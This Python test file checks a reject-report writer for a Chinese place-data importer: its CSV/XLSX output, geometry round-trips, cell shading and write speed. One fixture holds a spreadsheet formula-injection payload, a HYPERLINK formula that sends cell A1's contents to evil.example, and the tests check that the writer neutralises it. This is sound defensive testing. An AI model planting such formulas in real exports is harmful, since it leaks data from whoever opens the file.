"""The reject report: never a formula from the clerk's file; the rows to correct (no database)."""

from __future__ import annotations

import csv
import sys
from pathlib import Path

import pandas as pd
import shapely
from openpyxl import load_workbook

from importers.mapping import header_test, resolve_columns
from importers.reading import GEOMETRY_COLUMN, read_table
from importers.report import BAD_CELL_FILL, ROWS_SHEET, write_report
from importers.rules import Problem

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
PROBLEMS = [
    Problem(2, "名称", HOSTILE, "必填"),
    Problem(3, "纬度", "-24.2", "点位不在中国境内"),
    Problem(4, "备注", "@SUM(A1:A9)", "必填"),
]


def test_csv_report_cells_do_not_start_like_formulas(tmp_path: Path) -> None:
    path = write_report(tmp_path / "rejects.csv", PROBLEMS)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert [r[2] for r in rows[1:]] == ["'" + HOSTILE, "-24.2", "'@SUM(A1:A9)"]
    assert rows[1][3] == "必填"


def test_xlsx_report_keeps_values_as_text(tmp_path: Path) -> None:
    path = write_report(tmp_path / "rejects.xlsx", PROBLEMS)
    sheet = load_workbook(path).active
    assert sheet is not None
    cells = [sheet.cell(row=r, column=3) for r in (2, 3, 4)]
    assert [c.value for c in cells] == [HOSTILE, "-24.2", "@SUM(A1:A9)"]
    assert [c.data_type for c in cells] == ["s", "s", "s"]


def test_rows_to_correct_keep_a_gis_geometry_as_wkt_and_read_back(tmp_path: Path) -> None:
    square = shapely.box(102.9, 24.1, 103.0, 24.2)
    rows = pd.DataFrame(
        {"code": ["53042400100"], "name": ["宁州街道"], GEOMETRY_COLUMN: [square]},
        index=pd.Index([3], name="row"),
        dtype=object,
    )
    problems = [Problem(3, "code", "53042400100", "区划代码必须是 12 位数字")]
    path = write_report(tmp_path / "rejects.xlsx", problems, rows)
    table = read_table(path, is_header=header_test())
    assert table.sheet == ROWS_SHEET
    assert table.headers == ["code", "name", "WKT", "退回原因", "原行号"]
    assert table.frame.iloc[0]["退回原因"] == "code：区划代码必须是 12 位数字"
    assert shapely.from_wkt(table.frame.iloc[0]["WKT"]).equals(square)
    columns = resolve_columns(table.headers, ["code", "name", "wkt"])
    assert columns == {"code": "code", "name": "name", "wkt": "WKT"}


def test_rows_to_correct_shade_each_bad_cell_with_its_rules(tmp_path: Path) -> None:
    rows = pd.DataFrame(
        {"名称": ["", "复安社区"], "经度": ["102.9", "1029"], "纬度": ["24.2", "24.2"]},
        index=pd.Index([2, 5], name="row"),
        dtype=object,
    )
    problems = [
        Problem(2, "名称", None, "必填"),
        Problem(5, "经度", "1029", "点位不在中国境内"),
        Problem(5, "经度", "1029", "必须是有限的数字"),
        Problem(5, "经纬度", None, "经度与纬度疑似填反"),  # no such column: reasons only
        Problem(5, "纬度", "24.2", "已按 GCJ-02 换算", "repaired"),
    ]
    path = write_report(tmp_path / "rejects.xlsx", problems, rows)
    sheet = load_workbook(path)[ROWS_SHEET]
    shaded = {
        (c.row, str(sheet.cell(row=1, column=c.column).value)): c.comment.text if c.comment else ""
        for line in sheet.iter_rows(min_row=2)
        for c in line
        if c.fill.fgColor.rgb.endswith(BAD_CELL_FILL)
    }
    assert shaded == {(2, "名称"): "必填", (3, "经度"): "点位不在中国境内\n必须是有限的数字"}
    assert sheet.cell(row=3, column=4).value.endswith("经纬度：经度与纬度疑似填反")
    assert sheet.freeze_panes == "A2" and sheet.cell(row=1, column=1).font.bold


def _calls_writing(folder: Path, rejected: int) -> int:
    """Count the Python calls made writing an XLSX report of ``rejected`` rows (both sheets)."""
    numbers = range(2, rejected + 2)
    problems = [Problem(r, "经度", f"=X{r}", "点位不在中国境内") for r in numbers]
    rows = pd.DataFrame(
        {"经度": [f"=X{r}" for r in numbers], "名称": ["甲"] * rejected},
        index=pd.Index(numbers, name="row"),
        dtype=object,
    )
    calls = 0

    def count(frame: object, event: str, arg: object) -> None:
        nonlocal calls
        calls += event == "call"

    sys.setprofile(count)
    try:
        write_report(folder / f"rejects_{rejected}.xlsx", problems, rows)
    finally:
        sys.setprofile(None)
    return calls


def test_xlsx_report_work_grows_with_its_rows_not_their_square(tmp_path: Path) -> None:
    # 20,000 rejected rows took minutes when each appended row rescanned the whole sheet
    _calls_writing(tmp_path, 10)  # openpyxl's first use loads what it needs once
    single, double = _calls_writing(tmp_path, 200), _calls_writing(tmp_path, 400)
    assert double < 2.2 * single
